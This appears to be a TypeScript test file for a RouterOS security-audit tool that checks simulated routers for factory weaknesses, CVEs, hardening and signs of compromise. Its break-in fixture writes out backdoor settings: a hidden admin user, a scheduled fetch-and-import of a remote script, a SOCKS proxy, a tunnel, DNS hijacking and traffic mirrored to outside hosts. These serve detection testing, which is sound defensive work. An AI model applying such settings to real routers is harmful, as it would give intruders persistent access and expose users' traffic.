import type { Menus } from '../../kit/audit-examples';
import { ADMIN, AUDITED_VERSIONS, AuditedTwins, become, toldOf, type Transport } from './audited-twins';

const TIMEOUT_MS = 120_000;
const NOC = { username: 'noc', password: 'Of-nobody-1234' };
const [DEFAULT, HARDENED, COMPROMISED, LIMITED] = [0, 1, 2, 3];
/** Where twins see their managers come from. */
const MANAGEMENT = '192.168.88.0/24';

/** What every twin shows as it leaves the factory, whatever its version. */
const FACTORY = [
  ...['high services.telnet', 'medium access.default-admin'],
  ...['medium services.api-plain', 'medium services.ftp', 'medium services.tls-without-certificate'],
  ...['medium services.www', 'medium ssh.weak-crypto', 'low access.full-from-anywhere', 'low access.no-password-policy'],
  ...['low services.old-tls', 'low services.open-to-every-network', 'low system.no-ntp', 'low system.no-remote-log'],
  ...['low tools.bandwidth-server', 'info layer2.mac-ping'],
];
/** Known holes of each version, weighed by what is on: from the factory, and where everything unneeded is off. */
const HOLES: Readonly<Record<string, { readonly factory: readonly string[]; readonly hardened: readonly string[] }>> = {
  '7.24': {
    factory: [
      'high cve.2026-67276',
      'high cve.2026-86060',
      'medium cve.2026-67277',
      'medium cve.2026-67278',
      'medium cve.2026-67279',
    ],
    hardened: [
      'high cve.2026-67276',
      'high cve.2026-86060',
      'medium cve.2026-67278',
      'medium cve.2026-67279',
      'info cve.2026-67277',
    ],
  },
  '7.15.3': {
    factory: [
      ...[
        'high cve.2026-67276',
        'high cve.2026-86060',
        'medium cve.2025-10948',
        'medium cve.2026-67277',
        'medium cve.2026-67278',
      ],
      ...['medium cve.2026-67279', 'info cve.2024-54772', 'info cve.2025-6443', 'info cve.2025-6563'],
    ],
    hardened: [
      ...['high cve.2026-67276', 'high cve.2026-86060', 'medium cve.2026-67278', 'medium cve.2026-67279', 'info cve.2024-54772'],
      ...['info cve.2025-10948', 'info cve.2025-6443', 'info cve.2025-6563', 'info cve.2026-67277'],
    ],
  },
  '6.49.18': {
    factory: ['high cve.2026-86060', 'medium cve.2026-67277', 'medium cve.2026-67279'],
    hardened: ['high cve.2026-86060', 'medium cve.2026-67279', 'info cve.2026-67277'],
  },
};

function hardened(version: string): Menus {
  const limited = (name: string) => ({ name, address: MANAGEMENT });
  const off = (name: string) => ({ name, disabled: 'true' });
  return {
    '/user/settings': [{ 'minimum-password-length': '12', 'minimum-categories': '3' }],
    '/user': [{ name: NOC.username, group: 'full', password: NOC.password, address: MANAGEMENT }, off('admin')],
    '/ip/ssh': [{ 'strong-crypto': 'yes' }],
    '/ip/service': [...['telnet', 'ftp', 'www', 'api-ssl'].map(off), ...['api', 'ssh', 'winbox'].map(limited)],
    '/tool/mac-server': [{ 'allowed-interface-list': 'LAN' }],
    '/tool/mac-server/mac-winbox': [{ 'allowed-interface-list': 'LAN' }],
    '/tool/mac-server/ping': [{ enabled: 'no' }],
    '/ip/neighbor/discovery-settings': [{ 'discover-interface-list': 'LAN' }],
    '/tool/bandwidth-server': [{ enabled: 'no' }],
    '/system/ntp/client': [
      version.startsWith('6') ? { enabled: 'yes', 'primary-ntp': '192.0.2.123' } : { enabled: 'yes', servers: '192.0.2.123' },
    ],
    '/system/logging/action': [{ name: 'remote', remote: '192.0.2.5' }],
    '/system/logging': [{ topics: 'critical', action: 'remote' }],
  };
}

const BROKEN_INTO: Menus = {
  '/user': [{ name: 'ftu', group: 'full', password: NOC.password }],
  '/system/scheduler': [
    {
      name: 'U6',
      interval: '1d',
      'on-event': '/tool fetch url="http://strtbiz.site/poll/1" mode=http dst-path=7wmp0b4s.rsc\n/import 7wmp0b4s.rsc',
    },
  ],
  '/ip/socks': [{ enabled: 'yes', port: '4145' }],
  '/interface/l2tp-client': [{ name: 'lvpn', 'connect-to': 's10.leappoach.info', user: 'user', password: 'x', disabled: 'no' }],
  '/ip/dns/static': [{ name: 'bank.example', address: '8.8.8.8' }],
  '/ip/firewall/filter': [{ chain: 'input', action: 'accept', protocol: 'tcp', 'dst-port': '5678' }],
  '/ip/firewall/mangle': [{ chain: 'prerouting', action: 'sniff-tzsp', 'sniff-target': '8.8.4.4', 'sniff-target-port': '37008' }],
  '/tool/sniffer': [{ 'streaming-enabled': 'yes', 'streaming-server': '8.8.4.4' }],
};
const MARKS = [
  ...['critical compromise.known-domain', 'critical compromise.known-tunnel', 'critical compromise.known-user'],
  ...['critical compromise.socks', 'critical compromise.traffic-copied', 'critical compromise.traffic-streamed'],
  ...['high compromise.fetching-script', 'high compromise.opened-port', 'high compromise.socks-odd-port'],
  ...['high compromise.unknown-user', 'high tools.socks', 'low compromise.dns-static-public'],
];

describe.each(AUDITED_VERSIONS)('audits of twins on RouterOS %s', (version) => {
  let twins: AuditedTwins;
  beforeAll(async () => {
    twins = await AuditedTwins.start({ version, routers: 4, first: '127.79.0.1' });
    become(twins.router(HARDENED), hardened(version));
    become(twins.router(COMPROMISED), BROKEN_INTO);
  }, TIMEOUT_MS);
  afterAll(() => twins.close());

  it(
    'find what the factory leaves open, and send nothing but questions',
    async () => {
      const rows = await twins.audit(DEFAULT);
      expect([...toldOf(rows)].sort()).toEqual([...FACTORY, ...(HOLES[version]?.factory ?? [])].sort());
      expect(rows[0]).toMatchObject({ part: 'score', unchecked: '0' });
      expect(twins.router(DEFAULT).writes).toEqual([]);
    },
    TIMEOUT_MS,
  );

  it(
    'find on a hardened one only the holes of its version',
    async () => {
      const rows = await twins.audit(HARDENED, 'workflow.audit_security', {}, NOC);
      expect([...toldOf(rows)].sort()).toEqual([...(HOLES[version]?.hardened ?? [])].sort());
      const factory = await twins.audit(DEFAULT);
      expect(Number(rows[0]?.['score'])).toBeGreaterThan(Number(factory[0]?.['score']) + 20);
    },
    TIMEOUT_MS,
  );

  it(
    'find every mark of a break-in, and none where nobody broke in',
    async () => {
      const swept = await twins.audit(COMPROMISED, 'workflow.compromise_sweep', { users: ['admin'] });
      expect(toldOf(swept)).toEqual(MARKS);
      expect(swept[0]).toMatchObject({ part: 'score', score: '0' });
      const clean = await twins.audit(DEFAULT, 'workflow.compromise_sweep', { users: ['admin'] });
      expect(clean).toMatchObject([{ part: 'score', score: '100' }]);
      // What an intruder left is shown without what might be secret.
      expect(JSON.stringify(swept)).not.toContain('/poll/1');
    },
    TIMEOUT_MS,
  );

  it(
    'tell what a user without rights may not read, and give no number',
    async () => {
      await twins.audit(LIMITED, 'workflow.capacity_report');
      await twins.router(LIMITED).setFault({ kind: 'missing-rights', policies: ['read'] });
      const rows = await twins.audit(LIMITED);
      const why = rows.filter(({ part }) => part === 'unchecked').map((row) => row['why']);
      expect(why).toContain('the user of the daemon may not read /user');
      expect(rows[0]).not.toHaveProperty('score');
      expect(toldOf(rows).filter((line) => !line.includes(' cve.'))).toEqual([]);
    },
    TIMEOUT_MS,
  );

  it(
    'list inventory and capacity beside what they find',
    async () => {
      const inventory = await twins.audit(DEFAULT, 'workflow.licence_and_inventory_audit');
      expect(inventory[0]).toMatchObject({ part: 'inventory', version: expect.stringContaining(version) as string });
      const capacity = await twins.audit(DEFAULT, 'workflow.capacity_report', { limits: { disk: 10 } });
      const items = capacity.filter(({ part }) => part === 'capacity').map((row) => `${row['item']} ${row['state']}`);
      expect(items).toEqual(['cpu ok', 'memory ok', 'disk over', 'connections ok', 'pool ok', 'temperature ok']);
      expect(toldOf(capacity)).toEqual(['medium capacity.disk']);
    },
    TIMEOUT_MS,
  );
});

describe('audits over other transports', () => {
  it.each<[Transport, string]>([
    ['rest', '7.24'],
    ['ssh', '7.24'],
    ['ssh', '6.49.18'],
  ])(
    'say the same over %s on RouterOS %s',
    async (transport, version) => {
      const twins = await AuditedTwins.start({ version, routers: 1, first: '127.79.1.1', transport });
      try {
        const told = toldOf(await twins.audit(DEFAULT, 'workflow.audit_security', { rules: RULES_WITHOUT_SCRIPTS }, ADMIN));
        const known = [...FACTORY, ...(HOLES[version]?.factory ?? [])];
        expect([...told].sort()).toEqual(known.filter((line) => /(access|ssh|services|layer2|cve)\./.test(line)).sort());
      } finally {
        await twins.close();
      }
    },
    TIMEOUT_MS,
  );
});

/** Some of them: a terminal answers slowly. */
const RULES_WITHOUT_SCRIPTS = ['access.*', 'ssh.*', 'services.*', 'layer2.*', 'cve.*'];
